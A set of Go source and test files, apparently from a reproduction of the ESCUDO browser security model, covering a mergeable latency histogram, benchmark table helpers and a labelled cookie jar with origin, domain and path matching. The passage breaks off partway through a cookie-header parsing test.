	return 100 * float64(with-without) / float64(without)
}

// Table renders rows as a fixed-width text table with a header, the
// output format of the cmd harnesses.
type Table struct {
	header []string
	rows   [][]string
}

// NewTable creates a table with the given column headers.
func NewTable(header ...string) *Table {
	return &Table{header: header}
}

// AddRow appends one row; short rows are padded.
func (t *Table) AddRow(cells ...string) {
	row := make([]string, len(t.header))
	copy(row, cells)
	t.rows = append(t.rows, row)
}

// String renders the table.
func (t *Table) String() string {
	widths := make([]int, len(t.header))
	for i, h := range t.header {
		widths[i] = len(h)
	}
	for _, row := range t.rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var b strings.Builder
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		b.WriteString("\n")
	}
	writeRow(t.header)
	rule := make([]string, len(t.header))
	for i := range rule {
		rule[i] = strings.Repeat("-", widths[i])
	}
	writeRow(rule)
	for _, row := range t.rows {
		writeRow(row)
	}
	return b.String()
}

// FormatMs renders a duration as fractional milliseconds ("12.34").
func FormatMs(d time.Duration) string {
	return fmt.Sprintf("%.3f", float64(d.Nanoseconds())/1e6)
}

// FormatPercent renders a percentage with sign ("+5.09%").
func FormatPercent(p float64) string {
	return fmt.Sprintf("%+.2f%%", p)
}
