package metrics

import (
	"testing"
	"time"

	"repro/internal/raceflag"
)

// TestHistogramObserveAllocs pins Observe's steady state at zero
// allocations: the counts slice is grown with full capacity on first
// need, so a warm histogram never reallocates — Observe sits on the
// engine's per-request stats path.
func TestHistogramObserveAllocs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	var h Histogram
	// Warm across the whole range once, including the open-ended top
	// bucket, so every later index is within capacity.
	h.Observe(0)
	h.Observe(5 * time.Hour)

	samples := []time.Duration{
		3 * time.Microsecond,
		250 * time.Microsecond,
		4 * time.Millisecond,
		900 * time.Millisecond,
		12 * time.Second,
	}
	allocs := testing.AllocsPerRun(1000, func() {
		for _, d := range samples {
			h.Observe(d)
		}
	})
	if allocs != 0 {
		t.Fatalf("warm Histogram.Observe allocates %.1f times per batch, want 0", allocs)
	}
}
