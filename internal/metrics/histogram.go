package metrics

import (
	"math"
	"math/bits"
	"time"
)

// Histogram is a mergeable latency histogram: log2-spaced major
// buckets subdivided into 8 linear sub-buckets, over microseconds.
// Relative bucket error is bounded at 12.5%, which is what makes
// cross-process percentile merging honest: each loadgen worker ships
// its phase histogram in its BENCH shard, the supervisor sums the
// counts element-wise, and a quantile over the sum is the fleet-wide
// percentile — something per-worker p50/p99 values can never be
// recombined into.
//
// The zero value is an empty histogram ready for Observe.
type Histogram struct {
	// Counts[i] is the number of observations in bucket i. Trailing
	// zero buckets are trimmed before serialization, so the JSON stays
	// compact for fast phases.
	Counts []uint64 `json:"counts"`
}

// histSub is the log2 of the linear sub-bucket count per power of two.
const histSub = 3

// maxBucket caps the bucket index: the last bucket is open-ended and
// absorbs everything from ~2^34 µs (≈ 4.7 hours) up.
const maxBucket = 8 + 8*31

// bucketOf maps a duration to its bucket index. Values under 8 µs get
// exact linear buckets (index == µs); above, the index advances by 8
// per power of two with 8 linear steps inside each.
func bucketOf(d time.Duration) int {
	us := uint64(d / time.Microsecond)
	if us < 8 {
		return int(us)
	}
	major := bits.Len64(us) - 1 // >= 3
	minor := (us >> (uint(major) - histSub)) & 7
	idx := 8*(major-histSub) + int(minor) + 8
	if idx > maxBucket {
		return maxBucket
	}
	return idx
}

// bucketUpper returns the inclusive upper bound of bucket i, the value
// a quantile lookup reports for observations landing there.
func bucketUpper(i int) time.Duration {
	if i < 8 {
		return time.Duration(i) * time.Microsecond
	}
	major := histSub + (i-8)/8 + 1
	minor := uint64((i - 8) % 8)
	lower := uint64(1)<<uint(major-1) + minor<<(uint(major-1)-histSub)
	width := uint64(1) << (uint(major-1) - histSub)
	return time.Duration(lower+width-1) * time.Microsecond
}

// Observe records one measurement. The counts slice is grown with
// full maxBucket+1 capacity on the first observation that needs more
// room, so a warm histogram never allocates again whatever latencies
// arrive — Observe sits on the per-request stats path and the
// AllocsPerRun gate in histogram_test pins the steady state at zero.
func (h *Histogram) Observe(d time.Duration) {
	i := bucketOf(d)
	if i >= len(h.Counts) {
		if i < cap(h.Counts) {
			h.Counts = h.Counts[:i+1]
		} else {
			grown := make([]uint64, i+1, maxBucket+1)
			copy(grown, h.Counts)
			h.Counts = grown
		}
	}
	h.Counts[i]++
}

// Sub returns h minus an earlier snapshot o: the observations that
// arrived between the two. Buckets never go negative — a bucket where
// o somehow exceeds h clamps to zero — so a stale "before" snapshot
// degrades to overcounting nothing rather than underflowing.
func (h Histogram) Sub(o Histogram) Histogram {
	out := Histogram{Counts: make([]uint64, len(h.Counts))}
	for i, c := range h.Counts {
		prev := uint64(0)
		if i < len(o.Counts) {
			prev = o.Counts[i]
		}
		if c > prev {
			out.Counts[i] = c - prev
		}
	}
	return out
}

// Merge adds o's counts into h.
func (h *Histogram) Merge(o Histogram) {
	if len(o.Counts) > len(h.Counts) {
		grown := make([]uint64, len(o.Counts))
		copy(grown, h.Counts)
		h.Counts = grown
	}
	for i, c := range o.Counts {
		h.Counts[i] += c
	}
}

// Total returns the observation count.
func (h Histogram) Total() uint64 {
	var n uint64
	for _, c := range h.Counts {
		n += c
	}
	return n
}

// Quantile returns the p-th percentile (0..100) by nearest rank over
// the bucketed counts, reporting the matched bucket's upper bound.
func (h Histogram) Quantile(p float64) time.Duration {
	total := h.Total()
	if total == 0 {
		return 0
	}
	rank := uint64(math.Ceil(float64(total) * p / 100))
	if rank == 0 {
		rank = 1
	}
	if rank > total {
		rank = total
	}
	var cum uint64
	for i, c := range h.Counts {
		cum += c
		if cum >= rank {
			return bucketUpper(i)
		}
	}
	return bucketUpper(len(h.Counts) - 1)
}

// Histogram folds the sample into bucketed form for merging across
// processes.
func (s *Sample) Histogram() Histogram {
	var h Histogram
	for _, d := range s.durations {
		h.Observe(d)
	}
	return h
}
