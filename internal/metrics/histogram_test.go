package metrics

import (
	"encoding/json"
	"testing"
	"time"
)

// TestHistogramBucketsMonotonic pins the bucket layout: indices grow
// with duration and every bucket's upper bound dominates the values
// mapped into it.
func TestHistogramBucketsMonotonic(t *testing.T) {
	prev := -1
	for us := 0; us < 1<<14; us++ {
		d := time.Duration(us) * time.Microsecond
		i := bucketOf(d)
		if i < prev {
			t.Fatalf("bucket index regressed at %v: %d after %d", d, i, prev)
		}
		prev = i
		if up := bucketUpper(i); up < d {
			t.Fatalf("bucketUpper(%d) = %v < observed %v", i, up, d)
		}
		// Relative error bound: the upper bound never overstates the
		// value by more than 12.5% (plus one µs of quantization).
		if up := bucketUpper(i); float64(up) > float64(d)*1.125+float64(time.Microsecond) {
			t.Fatalf("bucket %d upper %v overstates %v by more than 12.5%%", i, up, d)
		}
	}
}

func TestHistogramQuantile(t *testing.T) {
	var h Histogram
	for i := 1; i <= 1000; i++ {
		h.Observe(time.Duration(i) * time.Microsecond)
	}
	if got := h.Total(); got != 1000 {
		t.Fatalf("Total = %d, want 1000", got)
	}
	p50 := h.Quantile(50)
	if p50 < 450*time.Microsecond || p50 > 570*time.Microsecond {
		t.Fatalf("p50 = %v, want ~500µs", p50)
	}
	p99 := h.Quantile(99)
	if p99 < 900*time.Microsecond || p99 > 1150*time.Microsecond {
		t.Fatalf("p99 = %v, want ~990µs", p99)
	}
	if h.Quantile(0) == 0 {
		t.Fatal("Quantile(0) on a non-empty histogram returned 0")
	}
}

// TestHistogramMerge is the property the cluster supervisor depends
// on: merging per-worker histograms then taking a quantile equals
// bucketing the union of the samples.
func TestHistogramMerge(t *testing.T) {
	var a, b, union Histogram
	for i := 1; i <= 500; i++ {
		d := time.Duration(i) * time.Microsecond
		a.Observe(d)
		union.Observe(d)
	}
	for i := 5000; i <= 9000; i += 10 {
		d := time.Duration(i) * time.Microsecond
		b.Observe(d)
		union.Observe(d)
	}
	a.Merge(b)
	if a.Total() != union.Total() {
		t.Fatalf("merged total %d != union total %d", a.Total(), union.Total())
	}
	for _, p := range []float64{10, 50, 90, 99} {
		if got, want := a.Quantile(p), union.Quantile(p); got != want {
			t.Fatalf("p%.0f: merged %v != union %v", p, got, want)
		}
	}
}

func TestHistogramJSONRoundTrip(t *testing.T) {
	s := &Sample{}
	for _, d := range []time.Duration{time.Millisecond, 2 * time.Millisecond, 40 * time.Microsecond} {
		s.Add(d)
	}
	h := s.Histogram()
	data, err := json.Marshal(h)
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	var back Histogram
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if back.Total() != h.Total() || back.Quantile(50) != h.Quantile(50) {
		t.Fatalf("round trip diverged: %+v vs %+v", back, h)
	}
}

func TestHistogramEmpty(t *testing.T) {
	var h Histogram
	if h.Total() != 0 || h.Quantile(50) != 0 {
		t.Fatalf("empty histogram: total %d, p50 %v", h.Total(), h.Quantile(50))
	}
}

func TestHistogramSub(t *testing.T) {
	var h Histogram
	h.Observe(10 * time.Microsecond)
	before := h
	before.Counts = append([]uint64(nil), h.Counts...)
	h.Observe(20 * time.Millisecond)
	h.Observe(30 * time.Millisecond)
	d := h.Sub(before)
	if d.Total() != 2 {
		t.Fatalf("delta total %d, want 2", d.Total())
	}
	if q := d.Quantile(50); q < 15*time.Millisecond {
		t.Fatalf("delta p50 %v includes pre-snapshot observations", q)
	}
	// Subtracting a larger snapshot clamps instead of underflowing.
	if got := before.Sub(h).Total(); got != 0 {
		t.Fatalf("reverse delta total %d, want 0", got)
	}
}

// TestHistogramQuantileEdgeCases pins Quantile's behavior on
// degenerate inputs: an empty histogram must report 0 at every
// percentile (never a bucket-edge artifact), a single observation is
// every percentile, and merging empties — in either direction, or
// with explicit all-zero counts as a JSON round trip can produce —
// must not fabricate observations.
func TestHistogramQuantileEdgeCases(t *testing.T) {
	single := Histogram{}
	single.Observe(100 * time.Microsecond)

	mergedEmptyIntoEmpty := Histogram{}
	mergedEmptyIntoEmpty.Merge(Histogram{})

	zeroCounts := Histogram{Counts: []uint64{0, 0, 0, 0}}

	emptyIntoZeroCounts := Histogram{Counts: []uint64{0, 0}}
	emptyIntoZeroCounts.Merge(Histogram{})

	singleViaMerge := Histogram{}
	singleViaMerge.Merge(single)
	singleViaMerge.Merge(Histogram{})

	cases := []struct {
		name string
		h    Histogram
		p    float64
		want time.Duration
	}{
		{"empty p0", Histogram{}, 0, 0},
		{"empty p50", Histogram{}, 50, 0},
		{"empty p99", Histogram{}, 99, 0},
		{"empty p100", Histogram{}, 100, 0},
		{"zero counts p99", zeroCounts, 99, 0},
		{"merged empty into empty p99", mergedEmptyIntoEmpty, 99, 0},
		{"merged empty into zero counts p50", emptyIntoZeroCounts, 50, 0},
		{"single observation p0", single, 0, single.Quantile(50)},
		{"single observation p50", single, 50, single.Quantile(99)},
		{"single via merge p99", singleViaMerge, 99, single.Quantile(99)},
	}
	for _, tc := range cases {
		if got := tc.h.Quantile(tc.p); got != tc.want {
			t.Errorf("%s: Quantile(%v) = %v, want %v", tc.name, tc.p, got, tc.want)
		}
	}
	// A single observation reports the same (nonzero) bucket edge at
	// every percentile.
	if single.Quantile(50) == 0 || single.Quantile(0) != single.Quantile(100) {
		t.Fatalf("single observation quantiles diverge: p0=%v p50=%v p100=%v",
			single.Quantile(0), single.Quantile(50), single.Quantile(100))
	}
}
