package metrics

import (
	"encoding/json"
	"testing"
	"time"
)

// TestHistogramBucketsMonotonic pins the bucket layout: indices grow
// with duration and every bucket's upper bound dominates the values
// mapped into it.
func TestHistogramBucketsMonotonic(t *testing.T) {
	prev := -1
	for us := 0; us < 1<<14; us++ {
		d := time.Duration(us) * time.Microsecond
		i := bucketOf(d)
		if i < prev {
			t.Fatalf("bucket index regressed at %v: %d after %d", d, i, prev)
		}
		prev = i
		if up := bucketUpper(i); up < d {
			t.Fatalf("bucketUpper(%d) = %v < observed %v", i, up, d)
		}
		// Relative error bound: the upper bound never overstates the
		// value by more than 12.5% (plus one µs of quantization).
		if up := bucketUpper(i); float64(up) > float64(d)*1.125+float64(time.Microsecond) {
			t.Fatalf("bucket %d upper %v overstates %v by more than 12.5%%", i, up, d)
		}
	}
}

func TestHistogramQuantile(t *testing.T) {
	var h Histogram
	for i := 1; i <= 1000; i++ {
		h.Observe(time.Duration(i) * time.Microsecond)
	}
	if got := h.Total(); got != 1000 {
		t.Fatalf("Total = %d, want 1000", got)
	}
	p50 := h.Quantile(50)
	if p50 < 450*time.Microsecond || p50 > 570*time.Microsecond {
		t.Fatalf("p50 = %v, want ~500µs", p50)
	}
	p99 := h.Quantile(99)
	if p99 < 900*time.Microsecond || p99 > 1150*time.Microsecond {
		t.Fatalf("p99 = %v, want ~990µs", p99)
	}
	if h.Quantile(0) == 0 {
		t.Fatal("Quantile(0) on a non-empty histogram returned 0")
	}
}

// TestHistogramMerge is the property the cluster supervisor depends
// on: merging per-worker histograms then taking a quantile equals
// bucketing the union of the samples.
func TestHistogramMerge(t *testing.T) {
	var a, b, union Histogram
	for i := 1; i <= 500; i++ {
		d := time.Duration(i) * time.Microsecond
		a.Observe(d)
		union.Observe(d)
	}
	for i := 5000; i <= 9000; i += 10 {
		d := time.Duration(i) * time.Microsecond
		b.Observe(d)
		union.Observe(d)
	}
	a.Merge(b)
	if a.Total() != union.Total() {
		t.Fatalf("merged total %d != union total %d", a.Total(), union.Total())
	}
	for _, p := range []float64{10, 50, 90, 99} {
		if got, want := a.Quantile(p), union.Quantile(p); got != want {
			t.Fatalf("p%.0f: merged %v != union %v", p, got, want)
		}
	}
}

func TestHistogramJSONRoundTrip(t *testing.T) {
	s := &Sample{}
	for _, d := range []time.Duration{time.Millisecond, 2 * time.Millisecond, 40 * time.Microsecond} {
		s.Add(d)
	}
	h := s.Histogram()
	data, err := json.Marshal(h)
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	var back Histogram
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if back.Total() != h.Total() || back.Quantile(50) != h.Quantile(50) {
		t.Fatalf("round trip diverged: %+v vs %+v", back, h)
	}
}

func TestHistogramEmpty(t *testing.T) {
	var h Histogram
	if h.Total() != 0 || h.Quantile(50) != 0 {
		t.Fatalf("empty histogram: total %d, p50 %v", h.Total(), h.Quantile(50))
	}
}
