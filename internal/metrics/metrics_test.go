package metrics

import (
	"strings"
	"testing"
	"time"
)

func sampleOf(ds ...time.Duration) *Sample {
	s := &Sample{}
	for _, d := range ds {
		s.Add(d)
	}
	return s
}

func TestSampleStats(t *testing.T) {
	s := sampleOf(10*time.Millisecond, 20*time.Millisecond, 30*time.Millisecond)
	if s.N() != 3 {
		t.Errorf("N = %d", s.N())
	}
	if got := s.Mean(); got != 20*time.Millisecond {
		t.Errorf("Mean = %v", got)
	}
	if got := s.Min(); got != 10*time.Millisecond {
		t.Errorf("Min = %v", got)
	}
	if got := s.Max(); got != 30*time.Millisecond {
		t.Errorf("Max = %v", got)
	}
	// Population stddev of {10,20,30} = sqrt(200/3) ms ≈ 8.16ms.
	sd := s.StdDev()
	if sd < 8*time.Millisecond || sd > 9*time.Millisecond {
		t.Errorf("StdDev = %v", sd)
	}
}

func TestSampleEmpty(t *testing.T) {
	s := &Sample{}
	if s.Mean() != 0 || s.StdDev() != 0 || s.Min() != 0 || s.Max() != 0 || s.Percentile(50) != 0 {
		t.Error("empty sample must be all zeros")
	}
}

func TestPercentile(t *testing.T) {
	s := &Sample{}
	for i := 1; i <= 100; i++ {
		s.Add(time.Duration(i) * time.Millisecond)
	}
	if got := s.Percentile(50); got != 50*time.Millisecond {
		t.Errorf("p50 = %v", got)
	}
	if got := s.Percentile(99); got != 99*time.Millisecond {
		t.Errorf("p99 = %v", got)
	}
	if got := s.Percentile(0); got != 1*time.Millisecond {
		t.Errorf("p0 = %v", got)
	}
	if got := s.Percentile(100); got != 100*time.Millisecond {
		t.Errorf("p100 = %v", got)
	}
}

func TestMeasure(t *testing.T) {
	count := 0
	s := Measure(5, 2, func() { count++ })
	if count != 7 {
		t.Errorf("fn ran %d times, want 7 (5 timed + 2 warmup)", count)
	}
	if s.N() != 5 {
		t.Errorf("N = %d, want 5", s.N())
	}
}

func TestOverheadPercent(t *testing.T) {
	tests := []struct {
		without, with time.Duration
		want          float64
	}{
		{100 * time.Millisecond, 105 * time.Millisecond, 5},
		{100 * time.Millisecond, 100 * time.Millisecond, 0},
		{100 * time.Millisecond, 95 * time.Millisecond, -5},
		{0, 50 * time.Millisecond, 0}, // guard against division by zero
	}
	for _, tt := range tests {
		got := OverheadPercent(tt.without, tt.with)
		if got < tt.want-0.01 || got > tt.want+0.01 {
			t.Errorf("OverheadPercent(%v, %v) = %v, want %v", tt.without, tt.with, got, tt.want)
		}
	}
}

func TestTable(t *testing.T) {
	tbl := NewTable("Scenario", "Baseline (ms)", "Escudo (ms)")
	tbl.AddRow("S1", "10.0", "10.5")
	tbl.AddRow("S2-long-name", "20.0")
	out := tbl.String()
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("lines = %d: %q", len(lines), out)
	}
	if !strings.Contains(lines[0], "Scenario") || !strings.Contains(lines[1], "---") {
		t.Errorf("header/rule malformed: %q", out)
	}
	if !strings.Contains(lines[2], "S1") || !strings.Contains(lines[3], "S2-long-name") {
		t.Errorf("rows malformed: %q", out)
	}
	// Columns align: every line at least as long as the header's
	// first two columns.
	if len(lines[3]) < len("S2-long-name") {
		t.Errorf("row truncated: %q", lines[3])
	}
}

func TestFormatHelpers(t *testing.T) {
	if got := FormatMs(12345678 * time.Nanosecond); got != "12.346" {
		t.Errorf("FormatMs = %q", got)
	}
	if got := FormatPercent(5.091); got != "+5.09%" {
		t.Errorf("FormatPercent = %q", got)
	}
	if got := FormatPercent(-1.5); got != "-1.50%" {
		t.Errorf("FormatPercent = %q", got)
	}
}
