// Package cookie implements the browser cookie store with ESCUDO
// labels. Cookies are the paper's canonical implicitly-used objects:
// "whenever an HTTP request is generated for a target URL, web
// browsers automatically attach the cookies belonging to the target
// site to the HTTP request. However, the principal who initiated the
// request did not explicitly reference the cookies" (§4.1). ESCUDO
// models that attachment as the use operation and mediates it through
// the reference monitor, which is what neutralizes CSRF (§6.4).
package cookie

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"

	"repro/internal/core"
	"repro/internal/origin"
)

// Cookie is one stored cookie with its ESCUDO label.
type Cookie struct {
	Name  string
	Value string
	// Origin is the origin that set the cookie; the Origin rule
	// compares principals against it.
	Origin origin.Origin
	// Domain and Path scope attachment, as in RFC 6265 (simplified).
	Domain string
	Path   string
	// Ring and ACL are the ESCUDO label from the X-Escudo-Cookie
	// header; unconfigured cookies sit in ring 0 (§4.1).
	Ring core.Ring
	ACL  core.ACL
	// HTTPOnly hides the cookie from script reads (defense in depth;
	// orthogonal to ESCUDO but present in real deployments).
	HTTPOnly bool
}

// Context returns the cookie's object security context.
func (c *Cookie) Context() core.Context {
	return core.Object(c.Origin, c.Ring, c.ACL, "cookie "+c.Name)
}

// ErrBadSetCookie reports an unparsable Set-Cookie header value.
var ErrBadSetCookie = errors.New("cookie: malformed Set-Cookie")

// ParseSetCookie parses a Set-Cookie header value ("name=value; Path=/;
// Domain=x; HttpOnly"). The setting origin supplies defaults for
// domain and path.
func ParseSetCookie(value string, setter origin.Origin) (Cookie, error) {
	parts := strings.Split(value, ";")
	name, val, ok := strings.Cut(strings.TrimSpace(parts[0]), "=")
	name = strings.TrimSpace(name)
	if !ok || name == "" {
		return Cookie{}, fmt.Errorf("%w: %q", ErrBadSetCookie, value)
	}
	c := Cookie{
		Name:   name,
		Value:  strings.TrimSpace(val),
		Origin: setter,
		Domain: setter.Host,
		Path:   "/",
	}
	for _, p := range parts[1:] {
		p = strings.TrimSpace(p)
		k, v, _ := strings.Cut(p, "=")
		switch strings.ToLower(strings.TrimSpace(k)) {
		case "path":
			if v != "" {
				c.Path = v
			}
		case "domain":
			c.Domain = strings.ToLower(strings.TrimPrefix(v, "."))
		case "httponly":
			c.HTTPOnly = true
		}
	}
	return c, nil
}

// DomainMatch reports whether a cookie scoped to domain attaches to
// requests for host: exact match or a dot-boundary suffix match.
func DomainMatch(host, domain string) bool {
	host = strings.ToLower(host)
	domain = strings.ToLower(domain)
	if host == domain {
		return true
	}
	return strings.HasSuffix(host, "."+domain)
}

// PathMatch reports whether a cookie scoped to cookiePath attaches to
// requests for reqPath, per RFC 6265 §5.1.4 (simplified).
func PathMatch(reqPath, cookiePath string) bool {
	if reqPath == "" {
		reqPath = "/"
	}
	if reqPath == cookiePath {
		return true
	}
	if strings.HasPrefix(reqPath, cookiePath) {
		return strings.HasSuffix(cookiePath, "/") || reqPath[len(cookiePath)] == '/'
	}
	return false
}

// Jar stores cookies for the whole browser, keyed by origin. The zero
// value is ready to use; it is safe for concurrent use. Attachment
// checks (Matching) vastly outnumber stores, so reads share an
// RWMutex read lock.
type Jar struct {
	mu      sync.RWMutex
	cookies []*Cookie
}

// Set inserts or replaces a cookie (same origin, name, domain, path).
func (j *Jar) Set(c Cookie) {
	j.mu.Lock()
	defer j.mu.Unlock()
	for i, old := range j.cookies {
		if old.Origin == c.Origin && old.Name == c.Name && old.Domain == c.Domain && old.Path == c.Path {
			clone := c
			j.cookies[i] = &clone
			return
		}
	}
	clone := c
	j.cookies = append(j.cookies, &clone)
}

// Delete removes the named cookie set by the given origin.
func (j *Jar) Delete(o origin.Origin, name string) {
	j.mu.Lock()
	defer j.mu.Unlock()
	kept := j.cookies[:0]
	for _, c := range j.cookies {
		if !(c.Origin == o && c.Name == name) {
			kept = append(kept, c)
		}
	}
	j.cookies = kept
}

// Matching returns copies of the cookies that would attach to a
// request for the target origin and path, before any access-control
// decision. Sorted by name for determinism.
func (j *Jar) Matching(target origin.Origin, path string) []Cookie {
	j.mu.RLock()
	defer j.mu.RUnlock()
	var out []Cookie
	for _, c := range j.cookies {
		if c.Origin.Scheme == target.Scheme && DomainMatch(target.Host, c.Domain) &&
			c.Origin.Port == target.Port && PathMatch(path, c.Path) {
			out = append(out, *c)
		}
	}
	sort.Slice(out, func(a, b int) bool { return out[a].Name < out[b].Name })
	return out
}

// Get returns a copy of the named cookie set by origin o, if present.
func (j *Jar) Get(o origin.Origin, name string) (Cookie, bool) {
	j.mu.RLock()
	defer j.mu.RUnlock()
	for _, c := range j.cookies {
		if c.Origin == o && c.Name == name {
			return *c, true
		}
	}
	return Cookie{}, false
}

// All returns copies of every stored cookie, sorted by origin then
// name.
func (j *Jar) All() []Cookie {
	j.mu.RLock()
	defer j.mu.RUnlock()
	out := make([]Cookie, 0, len(j.cookies))
	for _, c := range j.cookies {
		out = append(out, *c)
	}
	sort.Slice(out, func(a, b int) bool {
		if out[a].Origin != out[b].Origin {
			return out[a].Origin.String() < out[b].Origin.String()
		}
		return out[a].Name < out[b].Name
	})
	return out
}

// Len returns the number of stored cookies.
func (j *Jar) Len() int {
	j.mu.RLock()
	defer j.mu.RUnlock()
	return len(j.cookies)
}

// Header serializes cookies into a Cookie request header value.
func Header(cookies []Cookie) string {
	parts := make([]string, 0, len(cookies))
	for _, c := range cookies {
		parts = append(parts, c.Name+"="+c.Value)
	}
	return strings.Join(parts, "; ")
}

// ParseCookieHeader parses a Cookie request header value into
// name→value pairs, the server-side view.
func ParseCookieHeader(value string) map[string]string {
	out := map[string]string{}
	for _, part := range strings.Split(value, ";") {
		name, val, ok := strings.Cut(strings.TrimSpace(part), "=")
		if ok && name != "" {
			out[name] = val
		}
	}
	return out
}
