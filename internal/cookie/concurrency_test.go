package cookie

import (
	"fmt"
	"sync"
	"testing"
)

// TestJarConcurrent exercises the jar's locking under parallel
// set/get/match/delete (run with -race to verify).
func TestJarConcurrent(t *testing.T) {
	var j Jar
	const workers = 8
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			name := fmt.Sprintf("c%d", w)
			for i := 0; i < 100; i++ {
				j.Set(Cookie{Name: name, Value: fmt.Sprint(i), Origin: forum, Domain: forum.Host, Path: "/"})
				j.Get(forum, name)
				j.Matching(forum, "/any")
				j.All()
				j.Len()
			}
			j.Delete(forum, name)
		}()
	}
	wg.Wait()
	if j.Len() != 0 {
		t.Errorf("Len = %d after all deletes", j.Len())
	}
}
