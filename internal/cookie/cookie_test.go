package cookie

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/core"
	"repro/internal/origin"
)

var (
	forum = origin.MustParse("http://forum.example")
	evil  = origin.MustParse("http://evil.example")
)

func TestParseSetCookie(t *testing.T) {
	c, err := ParseSetCookie("phpbb2mysql_sid=abc123; Path=/; HttpOnly", forum)
	if err != nil {
		t.Fatal(err)
	}
	if c.Name != "phpbb2mysql_sid" || c.Value != "abc123" || c.Path != "/" || !c.HTTPOnly {
		t.Errorf("c = %+v", c)
	}
	if c.Domain != "forum.example" || c.Origin != forum {
		t.Errorf("defaults: %+v", c)
	}
	c, err = ParseSetCookie("a=b; Domain=.example; Path=/sub", forum)
	if err != nil {
		t.Fatal(err)
	}
	if c.Domain != "example" || c.Path != "/sub" {
		t.Errorf("c = %+v", c)
	}
}

func TestParseSetCookieErrors(t *testing.T) {
	for _, v := range []string{"", "noequals", "=value", "  ;Path=/"} {
		if _, err := ParseSetCookie(v, forum); !errors.Is(err, ErrBadSetCookie) {
			t.Errorf("ParseSetCookie(%q) err = %v, want ErrBadSetCookie", v, err)
		}
	}
}

func TestDomainMatch(t *testing.T) {
	tests := []struct {
		host, domain string
		want         bool
	}{
		{"forum.example", "forum.example", true},
		{"sub.forum.example", "forum.example", true},
		{"forum.example", "sub.forum.example", false},
		{"evilforum.example", "forum.example", false},
		{"FORUM.example", "forum.EXAMPLE", true},
	}
	for _, tt := range tests {
		if got := DomainMatch(tt.host, tt.domain); got != tt.want {
			t.Errorf("DomainMatch(%q, %q) = %v, want %v", tt.host, tt.domain, got, tt.want)
		}
	}
}

func TestPathMatch(t *testing.T) {
	tests := []struct {
		req, cookie string
		want        bool
	}{
		{"/", "/", true},
		{"/forum/view", "/", true},
		{"/forum/view", "/forum", true},
		{"/forum/view", "/forum/", true},
		{"/forumx", "/forum", false},
		{"/other", "/forum", false},
		{"", "/", true},
	}
	for _, tt := range tests {
		if got := PathMatch(tt.req, tt.cookie); got != tt.want {
			t.Errorf("PathMatch(%q, %q) = %v, want %v", tt.req, tt.cookie, got, tt.want)
		}
	}
}

func TestJarSetGetReplace(t *testing.T) {
	var j Jar
	j.Set(Cookie{Name: "sid", Value: "1", Origin: forum, Domain: forum.Host, Path: "/", Ring: 1})
	j.Set(Cookie{Name: "sid", Value: "2", Origin: forum, Domain: forum.Host, Path: "/", Ring: 1})
	if j.Len() != 1 {
		t.Fatalf("Len = %d, want 1 (replace)", j.Len())
	}
	c, ok := j.Get(forum, "sid")
	if !ok || c.Value != "2" {
		t.Errorf("Get = %+v, %v", c, ok)
	}
	if _, ok := j.Get(evil, "sid"); ok {
		t.Error("cookie visible to wrong origin")
	}
}

func TestJarMatching(t *testing.T) {
	var j Jar
	j.Set(Cookie{Name: "sid", Value: "s", Origin: forum, Domain: "forum.example", Path: "/"})
	j.Set(Cookie{Name: "adm", Value: "a", Origin: forum, Domain: "forum.example", Path: "/admin"})
	j.Set(Cookie{Name: "other", Value: "o", Origin: evil, Domain: "evil.example", Path: "/"})

	got := j.Matching(forum, "/viewtopic.php")
	if len(got) != 1 || got[0].Name != "sid" {
		t.Errorf("Matching(/viewtopic.php) = %v", got)
	}
	got = j.Matching(forum, "/admin/panel")
	if len(got) != 2 {
		t.Errorf("Matching(/admin/panel) = %v", got)
	}
	// Different scheme: no match.
	tls := origin.MustParse("https://forum.example")
	if got := j.Matching(tls, "/"); len(got) != 0 {
		t.Errorf("https must not receive http cookies: %v", got)
	}
	// Different port: no match.
	alt := origin.MustParse("http://forum.example:8080")
	if got := j.Matching(alt, "/"); len(got) != 0 {
		t.Errorf("different port must not match: %v", got)
	}
}

func TestJarDelete(t *testing.T) {
	var j Jar
	j.Set(Cookie{Name: "a", Origin: forum, Domain: forum.Host, Path: "/"})
	j.Set(Cookie{Name: "b", Origin: forum, Domain: forum.Host, Path: "/"})
	j.Delete(forum, "a")
	if j.Len() != 1 {
		t.Fatalf("Len = %d", j.Len())
	}
	if _, ok := j.Get(forum, "a"); ok {
		t.Error("deleted cookie still present")
	}
}

func TestJarAllSorted(t *testing.T) {
	var j Jar
	j.Set(Cookie{Name: "z", Origin: forum, Domain: forum.Host, Path: "/"})
	j.Set(Cookie{Name: "a", Origin: forum, Domain: forum.Host, Path: "/"})
	all := j.All()
	if len(all) != 2 || all[0].Name != "a" || all[1].Name != "z" {
		t.Errorf("All = %v", all)
	}
}

func TestCookieContext(t *testing.T) {
	c := Cookie{Name: "sid", Origin: forum, Ring: 1, ACL: core.UniformACL(1)}
	ctx := c.Context()
	if ctx.Ring != 1 || ctx.Origin != forum || !strings.Contains(ctx.Label, "sid") {
		t.Errorf("ctx = %v", ctx)
	}
}

func TestHeaderSerialization(t *testing.T) {
	h := Header([]Cookie{{Name: "a", Value: "1"}, {Name: "b", Value: "2"}})
	if h != "a=1; b=2" {
		t.Errorf("Header = %q", h)
	}
	if Header(nil) != "" {
		t.Error("empty header must be empty string")
	}
}

func TestParseCookieHeader(t *testing.T) {
	m := ParseCookieHeader("a=1; b=2; malformed; c=x=y")
	if m["a"] != "1" || m["b"] != "2" || m["c"] != "x=y" {
		t.Errorf("m = %v", m)
	}
	if _, ok := m["malformed"]; ok {
